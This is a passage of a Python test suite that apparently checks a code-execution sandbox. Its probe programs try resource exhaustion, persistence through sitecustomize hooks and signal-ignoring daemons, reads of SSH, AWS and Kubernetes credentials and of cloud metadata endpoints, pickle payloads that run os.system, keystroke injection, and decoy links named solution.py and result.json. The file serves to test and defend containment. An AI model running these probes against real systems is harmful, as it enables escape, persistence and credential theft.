    "output-in-one-line": SHOUT + "def add(a, b):\n    for _ in range(20_000):\n        shout(b'x' * 65536)\n",
    "output-in-lines": SHOUT + "def add(a, b):\n    for _ in range(20_000):\n        shout(b'{\"value\": 7}\\n' * 5000)\n",
    "output-by-print": """\
import sys


def add(a, b):
    for _ in range(20_000):
        for stream in (sys.stdout, sys.stderr):
            stream.write("x" * 65536)
    return "printed"
""",
    "memory-until-killed": """\
held = []
for _ in range(256):
    try:
        held.append(bytearray(16 << 20))
    except MemoryError:
        raise MemoryError(len(held)) from None
""",
    "memory-in-small-parts": "held = {}\nfor number in range(10_000_000):\n    held[number] = [number]\n",
    "stack-overflow": """\
import sys
import threading

sys.setrecursionlimit(1 << 30)


def add(a, b):
    return [add(a, b)] + [1]


for _ in range(100_000):
    add = (lambda inner: lambda a, b: max(map(inner, [a], [b])))(add)
""",
    "null-read": """\
def add(a, b):
    try:
        import ctypes

        return ctypes.string_at(0)
    except ImportError:
        return "no ctypes"
""",
    "abort": "import os\n\n\ndef add(a, b):\n    os.abort()\n",
}

# Right as long as a limit holds. Nothing takes more than about 1 GB where none does.
LIMITS = {
    "memory": probe("""
held = []
try:
    for _ in range(40):
        held.append(bytes(16 << 20))
    broken.append("640 MB")
except MemoryError:
    pass
held.clear()
"""),
    "memory-mapped": probe("""
def mapped():
    import mmap

    mmap.mmap(-1, 1 << 33, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000).close()


tried(mapped)
"""),
    # A segment that is attached, filled and detached counts towards no process's address space.
    "memory-of-system-v": kernel("""
segments = []
for _ in range(12):
    number = asked((29, 194), 0, 64 << 20, 0o1600)
    if number < 0:
        break
    segments.append(number)
    place = asked((30, 196), number, None, 0)
    if place == -12 or place == -1:
        break
    ctypes.memset(place, 1, 64 << 20)
    asked((67, 197), place)
else:
    broken.append("768 MB")
for number in segments:
    asked((31, 195), number, 0, None)
"""),
    # Nor does a file in memory that no one maps. Every file is within the limit of files, and there are many.
    "memory-in-files": kernel("""
files, held = [], 0
try:
    for _ in range(48):
        number = asked((319, 279), b"held", 0)
        if number < 0:
            break
        files.append(number)
        for _ in range(16):
            held += os.write(number, bytes(1 << 20))
except (OSError, MemoryError):
    pass
if held > 600 << 20:
    broken.append("600 MB")
for number in files:
    os.close(number)
"""),
    "limits-raised": probe("""
import resource

for name in ("AS", "NPROC", "FSIZE", "CPU", "NOFILE", "CORE"):
    tried(resource.setrlimit, getattr(resource, "RLIMIT_" + name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
tried(os.nice, -5)
tried(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
"""),
    "disk": probe("""
written = 0
try:
    for number in range(32):
        with open(f"/tmp/full-{number}", "wb", buffering=0) as file:
            for _ in range(4):
                written += file.write(bytes(1 << 20))
except OSError:
    pass
if written > 64 << 20:
    broken.append("64 MB")
for number in range(32):
    if os.path.exists(f"/tmp/full-{number}"):
        os.unlink(f"/tmp/full-{number}")
"""),
    "disk-sparse": probe("""
def sparse():
    with open("/tmp/sparse", "wb") as file:
        file.truncate(1 << 40)


def allocated():
    with open("/tmp/allocated", "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 1 << 30)


tried(sparse)
tried(allocated)
"""),
    "descriptors": probe("""
held = []
try:
    for _ in range(4096):
        held.append(os.open("/dev/null", os.O_RDONLY))
    broken.append("4096 descriptors")
except OSError:
    pass
for number in held:
    os.close(number)
"""),
    "threads": probe("""
import threading

end = threading.Event()
begun = []
try:
    threading.stack_size(64 << 10)
    for _ in range(64):
        thread = threading.Thread(target=end.wait, args=(5,))
        thread.start()
        begun.append(thread)
    broken.append("64 threads")
except (RuntimeError, MemoryError):
    pass
end.set()
for thread in begun:
    thread.join()
"""),
    "processes": probe("""
import signal

children = []
try:
    for _ in range(64):
        child = os.fork()
        if child == 0:
            time.sleep(3)
            os._exit(0)
        children.append(child)
    broken.append("64 processes")
except OSError:
    pass
for child in children:
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
"""),
}

# What is left: nothing, since files, processes and threads belong to the sandbox and end with it.
EXHAUSTED = {
    # 100,000 empty files in /tmp; they count as inodes, not as bytes
    "disk-of-many-files": """\
try:
    for number in range(100_000):
        open(f"/tmp/{number}", "w").close()
except OSError:
    pass
"""
    + RIGHT,
    # folders in folders in /tmp, too deep for a removal that calls itself
    "disk-of-deep-folders": """\
import os

try:
    for _ in range(5000):
        os.mkdir("deep")
        os.chdir("deep")
except OSError:
    pass
"""
    + RIGHT,
    # a full /tmp and every descriptor taken, while the answers are given
    "everything-full": """\
import os

held = []
try:
    while len(held) < 4096:
        held.append(os.open(f"/tmp/{len(held)}", os.O_RDWR | os.O_CREAT))
except OSError:
    pass
try:
    for number in held:
        for _ in range(64):
            os.write(number, bytes(1 << 20))
except OSError:
    pass
"""
    + RIGHT,
    # seven sleeping processes, with the pipe open in each
    "processes-left": """\
import os
import time

try:
    for _ in range(64):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
except OSError:
    pass
"""
    + RIGHT,
}


# ---- persistence: what a run leaves for later ones; a "-find" comes right after its "-leave"

NOTES = """\
import os
import sys

NAME = ".posttrain-note"
FOLDERS = [
    "/tmp", "/var/tmp", "/dev/shm", "/dev", "/dev/mqueue", "/run", "/run/lock", "/", "/home", "/root", "/opt", "/srv", "/mnt",
    "/usr", "/usr/lib", "/usr/local", "/usr/local/lib", "/var", "/var/lib", "/var/cache", os.getcwd(), os.path.expanduser("~"),
    sys.prefix, os.path.dirname(sys.executable), *(each for each in sys.path if each),
]
"""
HOOKS = """\
import os
import sys

NOTE = "import builtins; builtins.posttrain_note = True\\n"
library = os.path.dirname(os.__file__)
FOLDERS = [
    *(each for each in sys.path if each), os.path.join(library, "site-packages"), os.path.join(library, "dist-packages"),
    os.path.expanduser("~/.local/lib/python3.11/site-packages"), "/usr/local/lib/python3.11/site-packages", os.getcwd(),
    "/tmp", "/dev/shm",
]
for folder in FOLDERS:
    for name in ("sitecustomize.py", "usercustomize.py", "posttrain-note.pth", "__main__.py", "wire.py", "guest.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "x") as file:
                file.write(NOTE)
        except OSError:
            pass
"""
SHARED = """
KEY = 0x706F7374
"""
RINGS = """
RINGS = (-1, -2, -3, -4, -5)  # of the thread, the process, the session, the user and the user's session
"""
ADDRESS = 'ADDRESS = "\\0posttrain-note"\n'

LEAVE = {
    # left: files named .posttrain-note wherever one can be made
    "files-leave": NOTES
    + """
for folder in FOLDERS:
    try:
        with open(os.path.join(folder, NAME), "w") as file:
            file.write("note")
    except OSError:
        pass
"""
    + RIGHT,
    # left: modules that a later Python would take up by itself
    "hooks-leave": HOOKS + RIGHT,
    # left: a segment, a semaphore and a queue of System V, and a segment and a queue of POSIX
    "shared-memory-leave": PROBE
    + KERNEL
    + SHARED
    + """
number = asked((29, 194), KEY, 4096, 0o1666)
if number >= 0:
    place = asked((30, 196), number, None, 0)
    if place > 0:
        ctypes.memmove(place, b"note", 4)
asked((64, 190), KEY, 1, 0o1666)
asked((68, 186), KEY, 0o1666)
asked((240, 180), b"posttrain-note", 0o102, 0o666, None)
try:
    import _posixshmem

    os.ftruncate(_posixshmem.shm_open("/posttrain-note", os.O_CREAT | os.O_RDWR, mode=0o666), 4096)
except BaseException:
    pass
"""
    + RIGHT,
    # left: a key in every ring of keys
    "keyring-leave": PROBE
    + KERNEL
    + RINGS
    + """
for ring in RINGS:
    asked((248, 217), b"user", b"posttrain-note", b"note", 4, ring)
"""
    + RIGHT,
    # left: a process that listens at an abstract address
    "listener-leave": ADDRESS
    + """
import os
import time


def listen():
    import socket

    line = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    line.bind(ADDRESS)
    line.listen()
    time.sleep(20)


try:
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                listen()
        finally:
            os._exit(0)
except OSError:
    pass
"""
    + RIGHT,
}
FIND = {
    "files-find": PROBE
    + NOTES
    + """
for folder in FOLDERS:
    if os.path.lexists(os.path.join(folder, NAME)):
        broken.append(folder)
"""
    + VERDICT,
    "hooks-find": probe("""
import builtins

if hasattr(builtins, "posttrain_note") or "sitecustomize" in sys.modules or "usercustomize" in sys.modules:
    broken.append("hook")
for folder in [*(each for each in sys.path if each), os.getcwd(), "/tmp"]:
    if os.path.exists(os.path.join(folder, "posttrain-note.pth")):
        broken.append(folder)
"""),
    "shared-memory-find": PROBE
    + KERNEL
    + SHARED
    + """
if asked((29, 194), KEY, 0, 0) >= 0 or asked((64, 190), KEY, 0, 0) >= 0 or asked((68, 186), KEY, 0) >= 0:
    broken.append("System V")
if asked((240, 180), b"posttrain-note", 0, 0, None) >= 0:
    broken.append("queue")


def posix():
    import _posixshmem

    _posixshmem.shm_open("/posttrain-note", os.O_RDONLY, mode=0)


tried(posix)
"""
    + VERDICT,
    "keyring-find": PROBE
    + KERNEL
    + RINGS
    + """
for ring in RINGS:
    if asked((250, 219), 10, ring, b"user", b"posttrain-note", 0) >= 0:
        broken.append("keyring")
if asked((249, 218), b"user", b"posttrain-note", None, 0) >= 0:
    broken.append("request_key")
"""
    + VERDICT,
    "listener-find": PROBE
    + ADDRESS
    + """
def reached():
    import socket

    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.settimeout(0.3)
        line.connect(ADDRESS)


tried(reached)
"""
    + VERDICT,
}

DAEMON = """\
import os
import signal
import time


def live():
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for _ in range(600):
        try:
            with open("/tmp/posttrain-alive", "w") as file:
                file.write(str(os.getpid()))
        except OSError:
            pass
        time.sleep(0.1)


try:
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                live()
        finally:
            os._exit(0)
except OSError:
    pass
"""
# What would be left is one process, for a minute at most, or a harness that waits for it.
DAEMONS = {
    # a daemon that holds the pipe to the harness open
    "daemon": DAEMON + RIGHT,
    # the same, with a parent that ends at once: the end of the pipe never comes
    "daemon-without-parent": DAEMON + "os._exit(0)\n",
    # a thread that keeps the interpreter from ending
    "thread-never-ends": "import threading\nimport time\n\nthreading.Thread(target=time.sleep, args=(60,)).start()\n" + RIGHT,
    # a function at exit that keeps it from ending
    "exit-never-ends": "import atexit\nimport time\n\natexit.register(time.sleep, 60)\n" + RIGHT,
    # a program that does not die with its parent, so that it stays where the harness itself is killed meanwhile
    "outlives-the-harness": """\
import signal
import time

for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
try:
    import ctypes

    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG
except BaseException:
    pass


def add(a, b):
    time.sleep(60)
""",
    # a harmless child in a group of its own, which a signal to the program's group does not reach
    "child-in-other-group": """\
import os
import time

try:
    if os.fork() == 0:
        os.setpgid(0, 0)
        os.closerange(0, 64)
        time.sleep(60)
        os._exit(0)
except OSError:
    pass
"""
    + RIGHT,
}


# ---- leaks

LEAKS = {
    "environment": probe("""
HARMLESS = ("PATH", "LANG", "LANGUAGE", "PWD", "OLDPWD", "HOME", "TMPDIR", "TZ", "USER", "LOGNAME", "TERM", "SHLVL")
broken += [name for name in os.environ if name not in HARMLESS and not name.startswith(("LC_", "PYTHON"))]
"""),
    "environment-of-others": probe("""
for process in ["self", "thread-self", *map(str, range(1, 2000))]:
    for name in ("environ", "cmdline", "maps", "mem"):
        tried(os.open, f"/proc/{process}/{name}", os.O_RDONLY)
"""),
    "environment-in-memory": probe(r"""
import re

SECRET = re.compile(rb"[A-Z][A-Z0-9_]*(?:_KEY|TOKEN|SECRET|PASSWORD)=[^\0]{6,}")


def stack():
    "The strings that the kernel puts above the stack, page by page through a pipe, which refuses pages that are none."
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    libc.getauxval.restype = ctypes.c_ulong
    top = libc.getauxval(31) >> 12  # AT_EXECFN, the last of the strings
    if not top:
        return b""
    read, write = os.pipe()
    found = b""
    for page in range(top - 40, top + 4):
        if libc.write(write, page << 12, 4096) == 4096:
            found += os.read(read, 4096)
    return found


try:
    found = stack()
except BaseException:
    found = b""
broken += SECRET.findall(found)
"""),
    "host-files-by-name": probe("""
for path in (
    "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/etc/machine-id",
    "/etc/os-release", "/proc/self/environ", "/proc/self/mem", "/proc/self/exe", "/proc/1/cmdline", "/proc/version",
    "/proc/cpuinfo", "/proc/mounts", "/sys/kernel/hostname", "/sys/fs/cgroup/cgroup.procs", "/sys/class/dmi/id/product_uuid",
    "/.dockerenv", "/boot/grub/grub.cfg", "/root/.bashrc", "/root/.ssh/id_rsa", "/root/.aws/credentials", "/root/.netrc",
    "/root/.cache/huggingface/token", "/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/docker.sock",
    "/var/log/syslog", "/work/main/pyproject.toml", "/work/shared/DESIGN.md", "/usr/lib/os-release", "/usr/share/doc",
    "/usr/include", "/usr/bin/env", "/lib/systemd",
):
    tried(os.stat, path)
"""),
    "host-files-by-folder": probe("""
MINE = (*(os.path.realpath(each) + "/" for each in (sys.prefix, sys.base_prefix)), os.path.realpath(sys.executable))
end, seen = time.monotonic() + 1, 0
for top in ("etc", "home", "root", "work", "var", "proc", "sys", "srv", "mnt", "media", "run", "boot", "opt", "tmp"):
    for folder, _, names in os.walk("/" + top):
        for name in names:
            path = os.path.join(folder, name)
            if not path.startswith(MINE) and os.path.isfile(path):
                broken.append(path)
        seen += 1
        if time.monotonic() > end or seen > 3000 or broken:
            break
"""),
    "host-packages": probe("""
library = os.path.dirname(os.__file__)
for folder in (
    os.path.join(library, "site-packages"), os.path.join(library, "dist-packages"), "/usr/lib/python3/dist-packages",
    "/usr/local/lib/python3.11/dist-packages", "/work/main/src", "/work/main/.venv/lib/python3.11/site-packages",
):
    if os.path.isdir(folder) and os.listdir(folder):
        sys.path.append(folder)


def imported(name):
    __import__(name)


for name in ("posttrain", "torch", "numpy", "transformers", "pip", "yaml", "pytest"):
    tried(imported, name)
"""),
    "inherited-descriptors": probe("""
for number in range(1024):
    try:
        about = os.fstat(number)
    except OSError:
        continue
    kind = about.st_mode
    if stat.S_ISDIR(kind) or stat.S_ISREG(kind) or stat.S_ISBLK(kind) or os.isatty(number):
        broken.append(number)
    if stat.S_ISCHR(kind) and os.major(about.st_rdev) != 1:
        broken.append(number)
"""),
    "devices": probe("""
HARMLESS = {
    "null", "zero", "full", "random", "urandom", "tty", "pts", "ptmx", "console", "shm", "mqueue", "fd", "core",
    "stdin", "stdout", "stderr",
}
if os.path.isdir("/dev"):
    broken += set(os.listdir("/dev")) - HARMLESS
for name in ("tty", "console", "mem", "port", "kmsg", "kvm", "fuse", "sda", "vda", "nvidia0", "nvidiactl", "loop0"):
    tried(os.open, "/dev/" + name, os.O_RDWR | os.O_NOCTTY)
tried(os.mknod, "/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
tried(os.mknod, "/tmp/memory", stat.S_IFCHR | 0o600, os.makedev(1, 1))
"""),
    "terminal": probe("""
def typed(number):
    import fcntl

    fcntl.ioctl(number, 0x5412, b"\\n")  # TIOCSTI, as if the user had typed it


for number in range(64):
    tried(typed, number)
"""),
}


# ---- escapes

# Refused outside of /tmp. What is there already is opened or given the mode that it has, never changed.
WRITES = {
    "writes-by-path": probe("""
folders = {
    "/", "/dev", "/dev/shm", "/etc", "/home", "/root", "/run", "/opt", "/srv", "/mnt", "/usr", "/usr/lib", "/lib", "/lib64",
    "/bin", "/usr/bin", "/usr/local", "/var", "/var/tmp", "/var/lib", "/proc", "/sys", "/sys/fs/cgroup", "/proc/sys/kernel",
    "/work", "/work/main", "/work/shared", "/boot", "/media", "/tmp/..", sys.prefix, os.path.dirname(sys.executable),
}
folders |= {each for each in sys.path if os.path.isdir(each)}
folders |= {os.path.join("/", each) for each in os.listdir("/") if each != "tmp"}
for folder in folders:
    path = os.path.join(folder, "posttrain-attack")
    if tried(os.open, path, os.O_CREAT | os.O_EXCL | os.O_WRONLY) is not None:
        os.unlink(path)
    if tried(os.mkdir, path) is None and os.path.isdir(path):
        os.rmdir(path)
    tried(os.open, folder, os.O_TMPFILE | os.O_WRONLY)
"""),
    "writes-over-files": probe("""
import json
import sysconfig

paths = [os.__file__, json.__file__, sys.executable, sysconfig.get_config_var("LIBDIR") or "/usr/lib", "/usr/bin"]
paths += [os.path.dirname(os.__file__), "/lib64/ld-linux-x86-64.so.2", "/etc/ld.so.preload", "/etc/passwd"]
for path in paths:
    if os.path.exists(path):
        about = os.stat(path)
        tried(os.chmod, path, stat.S_IMODE(about.st_mode))
        tried(os.utime, path, ns=(about.st_atime_ns, about.st_mtime_ns))
        tried(os.chown, path, os.getuid(), os.getgid()) if about.st_uid == os.getuid() else None
    if os.path.isfile(path):
        tried(os.open, path, os.O_WRONLY)
        tried(os.open, path, os.O_RDWR | os.O_APPEND)
        tried(os.setxattr, path, "user.posttrain", b"attack")
"""),
    "writes-by-link": probe("""
target = os.__file__
for name, make in {"/tmp/hard": os.link, "/tmp/soft": os.symlink}.items():
    try:
        make(target, name)
        tried(os.open, name, os.O_WRONLY)
        os.unlink(name)
    except OSError:
        pass
tried(os.link, target, "/tmp/hard-again")
tried(os.symlink, "/tmp/x", os.path.join(os.path.dirname(target), "posttrain-link"))
try:
    os.symlink(os.path.dirname(target), "/tmp/folder")
    tried(os.open, "/tmp/folder/posttrain-attack", os.O_CREAT | os.O_EXCL | os.O_WRONLY)
    tried(os.open, "/tmp/../../../../../posttrain-attack", os.O_CREAT | os.O_EXCL | os.O_WRONLY)
    os.unlink("/tmp/folder")
except OSError:
    pass
"""),
    "writes-by-rename": probe("""
with open("/tmp/new", "w") as file:
    file.write("x")
mine = (os.path.dirname(os.__file__), sys.prefix)
for folder in ("/", "/usr", "/usr/lib", "/var/tmp", "/dev/shm", "/home", "/root", "/work/main", *mine):
    path = os.path.join(folder, "posttrain-attack")
    tried(os.rename, "/tmp/new", path)
    tried(os.link, "/tmp/new", path)
    if os.path.lexists(path):
        os.unlink(path)
source = os.path.join(os.path.dirname(os.__file__), "this.py")
if os.path.exists(source):
    tried(os.rename, source, source + "-attack")
    if os.path.exists(source + "-attack"):
        os.rename(source + "-attack", source)
"""),
}

# Left in /tmp, the working folder: links that point outside, pipes that block who opens them, names that break a listing.
LINKS = {
    "links-and-fifos": r"""
import os

attempts = [
    (os.symlink, "/etc/passwd", "result.json"), (os.symlink, "/", "root"), (os.symlink, "loop", "loop"),
    (os.symlink, "/dev/zero", "stdout"), (os.symlink, "/proc/self/mem", "memory"), (os.mkfifo, "report.json"),
    (os.symlink, "../../../../etc/shadow", "solution.py"), (os.mkfifo, "score"), (os.mkfifo, "conftest.py"), (os.mkdir, "-rf"),
    (os.mkdir, "name\nwith a line"), (os.mkdir, b"\xff\xfe\x1b[2J"), (os.mkdir, "$(reboot)"), (os.mkdir, "x" * 255),
    (os.mkdir, "sealed"), (os.mkdir, "sealed/inner"), (os.chmod, "sealed", 0),
]
for act, *arguments in attempts:
    try:
        act(*arguments)
    except OSError:
        pass
"""
    + RIGHT,
    # hard links to files of the library, so that who cleans up or changes modes reaches them
    "hard-links": """\
import os

for name in ("os.py", "this.py", "json/__init__.py"):
    try:
        os.link(os.path.join(os.path.dirname(os.__file__), name), "/tmp/" + name.replace("/", "-"))
    except OSError:
        pass
"""
    + RIGHT,
    # the working folder itself, gone or closed
    "working-folder-gone": """\
import os

for act, path in ((os.mkdir, "/tmp/inner"), (os.chdir, "/tmp/inner"), (os.rmdir, "/tmp/inner"), (os.rmdir, "/tmp")):
    try:
        act(path)
    except OSError:
        pass
"""
    + RIGHT,
    # flags of descriptors that the harness may share
    "descriptors-meddled": """\
import fcntl
import os

for number in range(64):
    for command, argument in (
        (fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND), (fcntl.F_SETOWN, os.getpid()), (fcntl.F_SETLEASE, fcntl.F_RDLCK),
        (1031, 1 << 20),  # F_SETPIPE_SZ
    ):
        try:
            fcntl.fcntl(number, command, argument)
        except (OSError, ValueError):
            pass
    for act, *arguments in ((os.ftruncate, 0), (os.lseek, 0, 0), (fcntl.flock, fcntl.LOCK_EX | fcntl.LOCK_NB)):
        try:
            act(number, *arguments)
        except (OSError, ValueError):
            pass
"""
    + RIGHT,
}

PICKLES = {
    "pickle-in-value": """\
import os


class Loaded:
    def __reduce__(self):
        return os.system, ("touch /tmp/posttrain-loaded",)

    __getstate__ = __reduce_ex__ = lambda self, *_: self.__reduce__()
    __getnewargs__ = lambda self: ()


def add(a, b):
    return Loaded() if a else [Loaded()]
""",
    "pickle-in-bytes": """\
import pickle


def add(a, b):
    return b"cos\\nsystem\\n(S'touch /tmp/posttrain-loaded'\\ntR."
""",
}

# (family, kind, protocol) by number, since not every build knows every name. Making one is enough: nothing has to answer.
SOCKETS = {
    "tcp": (2, 1, 0),
    "udp": (2, 2, 0),
    "ping": (2, 2, 1),
    "raw": (2, 3, 1),
    "tcp-ipv6": (10, 1, 0),
    "udp-ipv6": (10, 2, 0),
    "unix": (1, 1, 0),
    "unix-datagram": (1, 2, 0),
    "netlink": (16, 3, 0),
    "netlink-audit": (16, 3, 9),
    "packet": (17, 3, 3),
    "vsock": (40, 1, 0),
    "kernel-crypto": (38, 5, 0),
    "bluetooth": (31, 3, 1),
    "can": (29, 3, 1),
    "xdp": (44, 3, 0),
}
NETWORK = {
    f"socket-{name}": kernel(f"""
def opened():
    import socket

    socket.socket({family}, {kind}, {protocol}).close()


tried(opened)
if asked((41, 198), {family}, {kind}, {protocol}) >= 0:
    broken.append("socket")
""")
    for name, (family, kind, protocol) in SOCKETS.items()
}
NETWORK |= {
    "network-by-name": probe("""
def looked_up(name):
    import socket

    socket.getaddrinfo(name, 80)


tried(looked_up, "example.com")
tried(looked_up, "localhost")
tried(looked_up, "metadata.google.internal")
"""),
    "network-by-address": probe("""
def reached(address, port, family):
    import socket

    with socket.socket(family, socket.SOCK_STREAM) as line:
        line.settimeout(0.15)
        line.connect((address, port))


for address, port, family in (("1.1.1.1", 53, 2), ("127.0.0.1", 22, 2), ("172.17.0.1", 22, 2), ("::1", 22, 10)):
    tried(reached, address, port, family)
"""),
    "network-metadata": probe("""
def fetched(url):
    import urllib.request

    urllib.request.urlopen(url, timeout=0.15).read()


tried(fetched, "http://169.254.169.254/latest/meta-data/")
tried(fetched, "http://100.100.100.200/latest/")
tried(fetched, "http://[fd00:ec2::254]/latest/meta-data/")
"""),
    "network-by-datagram": probe("""
def sent(address):
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(bytes.fromhex("12340100000100000000000001610000010001"), (address, 53))  # a question for the name "a"


for address in ("1.1.1.1", "127.0.0.53", "255.255.255.255"):
    tried(sent, address)
"""),
    "network-server": probe("""
def served(family, address):
    import socket

    with socket.create_server(address, family=family) as line:
        line.getsockname()


tried(served, 2, ("", 0))
tried(served, 10, ("::", 0))
tried(served, 1, "/tmp/posttrain.sock")
tried(served, 1, "\\0posttrain-attack")
"""),
    "network-to-host-services": probe("""
def reached(address):
    import socket

    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.settimeout(0.1)
        line.connect(address)


for address in (
    "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/journal/stdout", "/dev/log",
    "/run/containerd/containerd.sock", "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0", "\\0/run/dbus/session",
):
    tried(reached, address)
"""),
}

GUARDS = {
    "shells": probe("""
import subprocess

NAMES = (
    "sh", "bash", "dash", "ash", "zsh", "ksh", "busybox", "env", "perl", "awk", "gdb", "curl", "wget", "ssh", "nc", "gcc",
    "mount", "bwrap", "unshare", "nsenter", "python3", "tar", "find", "vim", "make", "git",
)
FOLDERS = ("/bin", "/usr/bin", "/usr/local/bin", "/sbin", "/usr/sbin", "/opt/bin")
mine = os.path.realpath(sys.executable)
for folder in FOLDERS:
    for name in NAMES:
        path = os.path.join(folder, name)
        if os.path.exists(path) and os.path.realpath(path) != mine:
            broken.append(path)


def run(*words):
    subprocess.run(words, timeout=1, check=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


for words in ("sh -c exit", "/bin/sh -c exit", "bash -c exit", "busybox true", "true", "id"):
    tried(run, *words.split())
if os.system("exit 0") == 0:
    broken.append("system")
try:
    with os.popen("echo reached") as answer:
        if "reached" in answer.read():
            broken.append("popen")
except BaseException:
    pass
"""),
    "setuid-helpers": probe("""
end = time.monotonic() + 1
for top in ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/lib", "/usr/libexec", "/usr/local/bin", "/opt"):
    for folder, _, names in os.walk(top):
        if time.monotonic() > end:
            break
        for name in names:
            path = os.path.join(folder, name)
            try:
                about = os.lstat(path)
                kept = os.listxattr(path)
            except OSError:
                continue
            if stat.S_ISREG(about.st_mode) and (about.st_mode & 0o6000 or "security.capability" in kept):
                broken.append(path)
"""),
    "privileges": kernel("""
if 0 in (*os.getresuid(), *os.getresgid()):
    broken.append("root")
for act, *arguments in ((os.setuid, 0), (os.seteuid, 0), (os.setresuid, 0, 0, 0), (os.setgid, 0), (os.setgroups, [0])):
    tried(act, *arguments)
tried(os.chroot, "/tmp")
if libc is not None:
    if libc.prctl(39, 0, 0, 0, 0) != 1:
        broken.append("new privileges")
    head, sets = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
    if asked((125, 90), head, sets) == 0 and any(sets):
        broken.append("capabilities")
"""),
    "python-guards-undone": probe("""
import importlib

for name in ("os", "subprocess", "builtins", "shutil", "socket", "io"):
    sys.modules.pop(name, None)


def posix_system():
    import posix

    if posix.system("exit 0") != 0:
        raise OSError


def posix_open():
    import posix

    posix.open("/etc/passwd", 0)


def io_open():
    import _io

    _io.open("/etc/passwd").close()


def popen_by_subclasses():
    import subprocess

    found = next(each for each in object.__subclasses__() if each.__name__ == "Popen")
    found(["/bin/sh", "-c", "exit 0"]).wait(1)


def loader():
    importlib.machinery.SourceFileLoader("passwd", "/etc/passwd").get_data("/etc/passwd")


def low_socket():
    importlib.import_module("_socket").socket(2, 1, 0)


def low_fork_exec():
    import subprocess

    importlib.reload(subprocess)
    subprocess.run(["/bin/sh", "-c", "exit 0"], check=True, timeout=1)


for act in (posix_system, posix_open, io_open, popen_by_subclasses, loader, low_socket, low_fork_exec):
    tried(act)
"""),
    "machine-code": kernel("""
# The gate of 32-bit programs, whose calls have other numbers: a child asks it for its process id.
if libc is not None and column == 0:
    import mmap

    child = os.fork()
    if child == 0:
        status = 1
        try:
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")  # mov eax, 20; int 0x80; ret
            gate = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
            status = int(gate() != os.getpid())
        finally:
            os._exit(status)
    if os.waitpid(child, 0)[1] == 0:
        broken.append("int 0x80")
    for number in (39, 41, 101, 165, 520, 521):  # the x32 numbers
        if asked((0x40000000 | number, None), 2, 1, 0, 0, 0) not in (-1, -13, -38):
            broken.append(number)
"""),
    "sees-no-other-process": probe("""
seen = 0
for number in range(1, 33_000):
    try:
        os.kill(number, 0)
        seen += 1
    except PermissionError:
        seen += 1
    except OSError:
        pass
if seen > 8:
    broken.append(seen)
tried(os.stat, "/proc/1")
"""),
    "memory-of-others": kernel("""
def peeked(process):
    buffer = ctypes.create_string_buffer(64)
    here = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    there = (ctypes.c_void_p * 2)(id(peeked), 64)
    for call in ((310, 270), (311, 271)):
        if asked(call, process, here, 1, there, 1, 0) > 0:
            broken.append(process)
    if asked((101, 117), 16, process, 0, 0) == 0:  # attached
        asked((101, 117), 17, process, 0, 0)
        broken.append(process)


if libc is not None:
    for process in (1, os.getppid(), os.getpid()):
        if process:
            peeked(process)
for process in (1, os.getppid()):
    for name in ("root", "cwd", "fd"):
        tried(os.listdir, f"/proc/{process}/{name}")
    for name in ("mem", "environ", "exe"):
        tried(os.open, f"/proc/{process}/{name}", os.O_RDONLY)
"""),
}

# Nothing is left: in a namespace of its own it reaches the first process, which ignores it, and its own children.
SIGNALS = {
    "signals-to-every-process": """\
import os
import signal

if os.getpid() < 1000 and not os.path.exists("/etc/passwd"):  # in a namespace, and never by mistake on a host
    for number in (signal.SIGCONT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
        for process in (-1, 1):
            try:
                os.kill(process, number)
            except OSError:
                pass
"""
    + RIGHT,
    # the same for its parent and for the group that it is in
    "signals-to-its-parent": """\
import os
import signal

if os.getpid() < 1000 and not os.path.exists("/etc/passwd"):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            if os.getppid():  # 0 where the parent is outside of the namespace, and to kill() its own group
                os.kill(os.getppid(), number)
        except OSError:
            pass
    os.killpg(0, signal.SIGTERM)
"""
    + RIGHT,
}

# name: (x86_64, aarch64) and arguments that do nothing, and for which an open kernel has another answer than "not permitted".
CALLS = {
    "ptrace": "(101, 117), 2, 0, 0, 0",
    "mount": '(165, 40), b"none", b"/posttrain-absent", b"tmpfs", 0, None',
